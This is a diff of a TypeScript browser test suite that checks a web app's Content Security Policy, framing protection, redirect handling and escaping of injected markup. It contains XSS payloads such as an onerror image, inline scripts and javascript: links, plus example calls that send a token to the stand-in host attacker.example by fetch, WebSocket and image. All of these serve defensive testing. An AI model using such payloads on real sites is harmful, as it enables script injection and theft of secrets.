@@ -7,17 +7,11 @@ import type { AddressInfo } from "node:net";
 import type { Page } from "playwright-core";
 import { test } from "uvu";
 import * as assert from "uvu/assert";
-import { demoPassword } from "../backend/demo.ts";
-import { launch, serve, visit } from "../support/browser.ts";
-import { enter } from "../support/customer.ts";
+import { takeSession } from "../support/customer.ts";
+import { openStand } from "../support/stand.ts";
+import { sendLogin } from "./loginForm.ts";
 
-const browser = await launch();
-const backend = await serve();
-
-test.after(async () => {
-  await browser.close();
-  await backend.close();
-});
+const { backend, visit } = await openStand(test);
 
 interface Watching {
   /** Set by an attack that succeeds. */
@@ -26,9 +20,10 @@ interface Watching {
   reports?: string[];
 }
 
-/** Before the page is loaded. */
-const watchPolicy = (page: Page) =>
-  page.addInitScript(() => {
+/** Somebody whose pages watch the policy, with that account's session; they stay for the tests that follow. */
+async function watchful(email?: string) {
+  const visitor = await visit({ keep: true });
+  await visitor.page.addInitScript(() => {
     const watching = globalThis as Watching;
     const reports: string[] = [];
     watching.reports = reports;
@@ -36,6 +31,9 @@ const watchPolicy = (page: Page) =>
       if (reports.at(-1) !== effectiveDirective) reports.push(effectiveDirective);
     });
   });
+  if (email) await takeSession(visitor.page, backend, email);
+  return visitor;
+}
 
 /** The reports since the last call. */
 const takeReports = (page: Page) =>
@@ -47,154 +45,92 @@ const takeReports = (page: Page) =>
 
 const wasHacked = (page: Page) => page.evaluate(() => (globalThis as Watching).hacked === true);
 
-/** The login, completely loaded. */
-async function openLogin() {
-  const visitor = await visit(browser, backend);
-  await watchPolicy(visitor.page);
-  await visitor.page.goto("/auth/login");
-  await visitor.page.getByText("Nordwind").first().waitFor();
-  // The policy is narrowed before the first request to an address from config.json.
-  await visitor.page.waitForFunction(
-    () => document.querySelectorAll("meta[http-equiv=Content-Security-Policy]").length > 1,
-  );
-  return visitor;
-}
+const attempts: { name: string; forbids: string; run: () => unknown }[] = [];
 
 /** What an injected script or markup might do, and the directive that blocks it. */
-const attempts: readonly { name: string; forbids: string; run: () => unknown }[] = [
-  {
-    name: "an inline script",
-    forbids: "require-trusted-types-for",
-    run: () => {
-      const script = document.createElement("script");
-      script.textContent = "globalThis.hacked = true";
-      document.body.append(script);
-    },
-  },
-  {
-    name: "an inline script, assembled from text nodes",
-    forbids: "require-trusted-types-for",
-    run: () => {
-      const script = document.createElement("script");
-      script.append("globalThis.hacked = true");
-      document.body.append(script);
-    },
-  },
-  {
-    name: "a script of another origin",
-    forbids: "require-trusted-types-for",
-    run: () => {
-      const script = document.createElement("script");
-      script.src = "https://attacker.example/x.js";
-      document.body.append(script);
-    },
-  },
-  {
-    name: "markup with a handler",
-    forbids: "require-trusted-types-for",
-    run: () => {
-      document.body.innerHTML = '<img src="x" onerror="globalThis.hacked = true">';
-    },
-  },
-  {
-    name: "an inline handler",
-    forbids: "require-trusted-types-for",
-    run: () => {
-      const button = document.createElement("button");
-      button.setAttribute("onclick", "globalThis.hacked = true");
-      button.click();
-    },
-  },
-  {
-    name: "a javascript: link",
-    forbids: "script-src-elem",
-    run: () => {
-      const link = document.createElement("a");
-      link.href = "javascript:globalThis.hacked=true";
-      document.body.append(link);
-      link.click();
-    },
-  },
-  {
-    name: "evaluated text",
-    forbids: "require-trusted-types-for",
-    // In a task of its own, because code evaluated by the driver is exempt from the policy.
-    run: () => void setTimeout(() => new Function("globalThis.hacked = true")()),
-  },
-  {
-    name: "a policy of its own",
-    forbids: "trusted-types",
-    run: () => {
-      const page = window as unknown as {
-        trustedTypes: { createPolicy(name: string, rules: object): unknown };
-      };
-      page.trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
-    },
-  },
-  {
-    name: "another worker",
-    forbids: "require-trusted-types-for",
-    run: () => new Worker("/assets/other.js"),
-  },
-  {
-    name: "sending secrets away",
-    forbids: "connect-src",
-    run: () => fetch("https://attacker.example/?token"),
-  },
-  {
-    name: "sending secrets away through a socket",
-    forbids: "connect-src",
-    run: () => new WebSocket("wss://attacker.example/"),
-  },
-  {
-    name: "sending secrets away in a picture's address",
-    forbids: "img-src",
-    run: () => {
-      new Image().src = "https://attacker.example/?token";
-    },
-  },
-  {
-    name: "a form that leads away",
-    forbids: "form-action",
-    run: () => {
-      const form = document.createElement("form");
-      form.action = "https://attacker.example/";
-      document.body.append(form);
-      form.submit();
-    },
-  },
-  {
-    name: "a foreign frame",
-    forbids: "frame-src",
-    run: () => {
-      const frame = document.createElement("iframe");
-      frame.src = "https://attacker.example/";
-      document.body.append(frame);
-    },
-  },
-  {
-    name: "another base address",
-    forbids: "base-uri",
-    run: () => {
-      const base = document.createElement("base");
-      base.href = "https://attacker.example/";
-      document.head.append(base);
-    },
-  },
-  {
-    name: "a foreign stylesheet",
-    forbids: "style-src-elem",
-    run: () => {
-      const link = document.createElement("link");
-      link.rel = "stylesheet";
-      link.href = "https://attacker.example/x.css";
-      document.head.append(link);
-    },
-  },
-];
+const attempt = (name: string, forbids: string, run: () => unknown) => attempts.push({ name, forbids, run });
 
-test("injected code neither runs nor sends anything", async () => {
-  const { page, close } = await openLogin();
+attempt("an inline script", "require-trusted-types-for", () => {
+  const script = document.createElement("script");
+  script.textContent = "globalThis.hacked = true";
+  document.body.append(script);
+});
+attempt("an inline script, assembled from text nodes", "require-trusted-types-for", () => {
+  const script = document.createElement("script");
+  script.append("globalThis.hacked = true");
+  document.body.append(script);
+});
+attempt("a script of another origin", "require-trusted-types-for", () => {
+  const script = document.createElement("script");
+  script.src = "https://attacker.example/x.js";
+  document.body.append(script);
+});
+attempt("markup with a handler", "require-trusted-types-for", () => {
+  document.body.innerHTML = '<img src="x" onerror="globalThis.hacked = true">';
+});
+attempt("an inline handler", "require-trusted-types-for", () => {
+  const button = document.createElement("button");
+  button.setAttribute("onclick", "globalThis.hacked = true");
+  button.click();
+});
+attempt("a javascript: link", "script-src-elem", () => {
+  const link = document.createElement("a");
+  link.href = "javascript:globalThis.hacked=true";
+  document.body.append(link);
+  link.click();
+});
+// In a task of its own, because code evaluated by the driver is exempt from the policy.
+attempt(
+  "evaluated text",
+  "require-trusted-types-for",
+  () => void setTimeout(() => new Function("globalThis.hacked = true")()),
+);
+attempt("a policy of its own", "trusted-types", () => {
+  const page = window as unknown as {
+    trustedTypes: { createPolicy(name: string, rules: object): unknown };
+  };
+  page.trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
+});
+attempt("another worker", "require-trusted-types-for", () => new Worker("/assets/other.js"));
+attempt("sending secrets away", "connect-src", () => fetch("https://attacker.example/?token"));
+attempt(
+  "sending secrets away through a socket",
+  "connect-src",
+  () => new WebSocket("wss://attacker.example/"),
+);
+attempt("sending secrets away in a picture's address", "img-src", () => {
+  new Image().src = "https://attacker.example/?token";
+});
+attempt("a form that leads away", "form-action", () => {
+  const form = document.createElement("form");
+  form.action = "https://attacker.example/";
+  document.body.append(form);
+  form.submit();
+});
+attempt("a foreign frame", "frame-src", () => {
+  const frame = document.createElement("iframe");
+  frame.src = "https://attacker.example/";
+  document.body.append(frame);
+});
+attempt("another base address", "base-uri", () => {
+  const base = document.createElement("base");
+  base.href = "https://attacker.example/";
+  document.head.append(base);
+});
+attempt("a foreign stylesheet", "style-src-elem", () => {
+  const link = document.createElement("link");
+  link.rel = "stylesheet";
+  link.href = "https://attacker.example/x.css";
+  document.head.append(link);
+});
+
+test("injected code neither runs nor sends anything, also after the narrowed policy's element is removed", async () => {
+  const { page } = await watchful();
+  await page.goto("/auth/login");
+  // The policy is narrowed before the first request to an address from config.json.
+  await page.waitForFunction(
+    () => document.querySelectorAll("meta[http-equiv=Content-Security-Policy]").length > 1,
+  );
   assert.equal(await takeReports(page), [], "starting the app violates nothing");
   const reported: Record<string, readonly string[]> = {};
   for (const { name, run } of attempts) {
@@ -204,17 +140,11 @@ test("injected code neither runs nor sends anything", async () => {
     assert.is(new URL(page.url()).pathname, "/auth/login", name);
   }
   assert.equal(reported, Object.fromEntries(attempts.map(({ name, forbids }) => [name, [forbids]])));
-  await close();
-});
-
-test("the narrowed policy holds after its element is removed", async () => {
-  const { page, close } = await openLogin();
   await page.evaluate(() => {
     for (const policy of document.querySelectorAll("meta[http-equiv]")) policy.remove();
     return fetch("https://attacker.example/").catch(() => {});
   });
   assert.equal(await takeReports(page), ["connect-src"]);
-  await close();
 });
 
 test("no other site can frame the app", async () => {
@@ -224,69 +154,74 @@ test("no other site can frame the app", async () => {
   });
   await new Promise<void>((listening) => attacker.listen(0, "127.0.0.1", listening));
   const { port } = attacker.address() as AddressInfo;
-  const visitor = await visit(browser, backend);
-  await visitor.page.goto(`http://127.0.0.1:${port}/`);
-  assert.is(await visitor.page.frameLocator("iframe").getByLabel("E-Mail").count(), 0);
-  assert.match(visitor.complaints.join("\n"), /frame-ancestors/);
-  await visitor.close();
+  const { page, complaints } = await visit();
+  await page.goto(`http://127.0.0.1:${port}/`);
+  assert.is(await page.frameLocator("iframe").getByLabel("E-Mail").count(), 0);
+  assert.match(complaints.join("\n"), /frame-ancestors/);
   attacker.close();
   attacker.closeAllConnections();
 });
 
-test("the address to open after signing in never leads to another site", async () => {
-  for (const target of [
-    "https://attacker.example/",
-    "//attacker.example/admin",
-    "/\\attacker.example/admin",
-    "javascript:globalThis.hacked=true",
-  ]) {
-    const visitor = await openLogin();
+const CUSTOMER = "kunde@musterbau.example";
+
+test("after the sign-in nobody is led away: only an address of the app is followed", async () => {
+  const targets = ["https://attacker.example/", "//attacker.example/", "javascript:hacked=true", "/outbox"];
+  for (const target of targets) {
+    const visitor = await visit();
     const { page } = visitor;
-    await page.evaluate(
-      (address) => history.replaceState({ index: 0, state: { target: address } }, ""),
-      target,
+    const asked: string[] = [];
+    page.on("request", (request) => asked.push(request.url()));
+    await page.goto(
+      `/auth/login?target=${encodeURIComponent(target)}&redirect=${encodeURIComponent(target)}`,
     );
+    await page.evaluate((to) => history.replaceState({ ...history.state, target: to }, ""), target);
     await page.reload();
-    await page.getByLabel("E-Mail").fill("kunde@musterbau.example");
-    await page.getByLabel("Passwort", { exact: true }).fill(demoPassword);
-    await page.getByRole("button", { name: "Anmelden", exact: true }).click();
+    await sendLogin(page, CUSTOMER);
     await page.getByRole("heading", { level: 1, name: "Ihre Dokumente" }).waitFor();
     assert.is(page.url(), `${backend.url}/customer`, target);
-    assert.not(await wasHacked(page), target);
-    visitor.complainsOnlyOf();
+    assert.equal(
+      asked.filter((url) => !url.startsWith(backend.url) && !/^(blob|data):/.test(url)),
+      [],
+    );
+    assert.not(await wasHacked(page));
     await visitor.close();
   }
 });
 
-test("markup in names and values is shown as text", async () => {
-  const markup = `<img src=x onerror="globalThis.hacked=true">'"><script>globalThis.hacked=true</script>`;
-  const customer = backend.world.customers.find(({ assets }) => assets.length > 0);
-  const asset = customer?.assets[0];
-  const field = asset?.fields[0];
-  assert.ok(customer && asset && field);
-  customer.name = markup;
-  asset.assettype_name = markup;
-  field.value = "javascript:globalThis.hacked=true";
-  const visitor = await visit(browser, backend);
-  const { page } = visitor;
-  await watchPolicy(page);
-  await visitor.signIn("admin@nordwind.example");
-  await page.goto(`/admin/customers/${customer.id}`);
-  await page.getByRole("heading", { level: 1, name: markup }).waitFor();
-  await page.goto(`/admin/customers/${customer.id}/asset/${asset.id}`);
-  await page.getByText(field.value).first().waitFor();
-  assert.is(await page.locator('a[href^="javascript"]').count(), 0);
-  await page.goto("/admin/customers");
-  await page.getByRole("searchbox").fill("<img");
-  await page.getByText(markup).first().waitFor();
-  assert.equal(await takeReports(page), []);
-  assert.not(await wasHacked(page));
-  visitor.complainsOnlyOf();
-  await visitor.close();
+test("only imprint and privacy notice lead away, and a new window knows nothing of this one", async () => {
+  const { company } = backend.config as { company: Record<string, string> };
+  const leading = async (page: Page) =>
+    page
+      .locator("a[href]")
+      .evaluateAll((all) =>
+        (all as HTMLAnchorElement[])
+          .filter(({ origin, protocol }) => /^https?:$/.test(protocol) && origin !== location.origin)
+          .map(({ href, target, rel }) => ({ href, target, rel })),
+      );
+  const { page } = await watchful(CUSTOMER);
+  const admin = await watchful("admin@nordwind.example");
+  const found = new Set<string>();
+  const walks: [Page, string[]][] = [
+    [page, ["/customer", "/customer/avv", "/customer/sepa", "/auth/change-password"]],
+    [admin.page, ["/admin", "/admin/customers", "/admin/app-customers", "/admin/users", "/admin/users/new"]],
+    [(await visit()).page, ["/auth/login", "/auth/password-forgot"]],
+  ];
+  for (const [walker, addresses] of walks) {
+    for (const address of addresses) {
+      await walker.goto(address);
+      await walker.getByRole("heading", { level: 1 }).waitFor();
+      await walker.getByRole("link", { name: /Impressum/ }).waitFor();
+      for (const { href, target, rel } of await leading(walker)) {
+        found.add(href);
+        if (target !== "") assert.is(rel, "noopener noreferrer", `${address}: ${href}`);
+      }
+    }
+  }
+  assert.equal([...found].sort(), [company.imprintUrl, company.privacyUrl].sort());
 });
 
 test("HTML in place of a signed document is an error and not shown", async () => {
-  const row = backend.world.clients().find(({ email }) => email === "kunde@musterbau.example");
+  const row = backend.world.clients().find(({ email }) => email === CUSTOMER);
   assert.ok(row);
   const now = new Date().toISOString();
   backend.world.putClient({ ...row, avv: { ...row.avv, sent: true, sentAt: now, path: "signed/avv.pdf" } });
@@ -298,12 +233,33 @@ test("HTML in place of a signed document is an error and not shown", async () =>
     createdAt: now,
     filedAt: null,
   });
-  const visitor = await enter(browser, backend, "kunde@musterbau.example", "/customer/avv");
-  const { page } = visitor;
+  const { page } = await watchful(CUSTOMER);
+  await page.goto("/customer/avv");
   await page.getByRole("alert").waitFor();
   assert.is(await page.locator("iframe").count(), 0);
   assert.not(await wasHacked(page));
-  await visitor.close();
+});
+
+test("markup in names and values is shown as text", async () => {
+  const markup = `<img src=x onerror="globalThis.hacked=true">'"><script>globalThis.hacked=true</script>`;
+  const of = backend.world.customers.find(({ assets }) => assets.length > 0);
+  const asset = of?.assets[0];
+  const field = asset?.fields[0];
+  assert.ok(of && asset && field);
+  of.name = markup;
+  asset.assettype_name = markup;
+  field.value = "javascript:globalThis.hacked=true";
+  const visitor = await watchful("admin@nordwind.example");
+  const { page } = visitor;
+  await page.goto("/admin/customers?search=%3Cimg");
+  await page.getByRole("link", { name: markup }).first().click();
+  await page.getByRole("heading", { level: 1, name: markup }).waitFor();
+  await page.getByRole("link", { name: markup }).first().click();
+  await page.getByText(field.value).first().waitFor();
+  assert.is(await page.locator('a[href^="javascript"]').count(), 0);
+  assert.equal(await takeReports(page), []);
+  assert.not(await wasHacked(page));
+  visitor.complainsOnlyOf();
 });
 
 test.run();
